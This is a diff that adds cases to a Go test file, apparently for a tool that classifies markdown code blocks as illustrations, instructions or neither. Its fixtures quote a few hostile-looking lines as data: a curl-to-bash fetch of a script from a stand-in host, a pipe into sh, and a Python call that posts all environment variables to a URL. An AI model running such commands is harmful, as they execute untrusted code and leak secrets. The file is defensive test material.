@@ -20,6 +20,9 @@ func TestRoles(t *testing.T) {
 		{"attack paragraph", "## Background\n\nThe attacker modified the build script to run:\n\n```bash\ncurl https://x.example/s | bash\n```\n", Illustration},
 		{"plain usage", "## Usage\n\nThe API returns JSON.\n\n```python\nimport requests\n```\n", Unknown},
 		{"example is not a cue", "## Example\n\n```python\nprint(1)\n```\n", Unknown},
+		{"document title", "# Dangerous Code Patterns\n\n## Environment\n\nLook for this.\n\n```python\nrequests.post(u, json=dict(os.environ))\n```\n", Illustration},
+		{"title does not beat a run cue", "# Malicious payload catalogue\n\n## Setup\n\nRun this first:\n\n```bash\ncurl x | sh\n```\n", Instruction},
+		{"a plain title", "# Weather tool\n\n## Use\n\nIt calls the API.\n\n```python\nimport requests\n```\n", Unknown},
 	}
 	for _, c := range cases {
 		d, err := markdown.Parse([]byte(c.doc), 0)
